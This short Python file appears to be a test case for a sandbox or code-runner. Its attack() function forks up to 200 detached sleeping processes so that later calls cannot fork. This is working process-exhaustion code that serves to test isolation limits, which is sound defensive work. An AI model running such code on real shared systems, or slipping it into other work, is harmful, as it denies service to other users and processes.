"""Leaves as many daemons as there can be, so that the next call cannot fork."""
#: cpu = 2
import os
import time

def attack(number):
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(1000)
        except OSError:
            pass
    return "left"
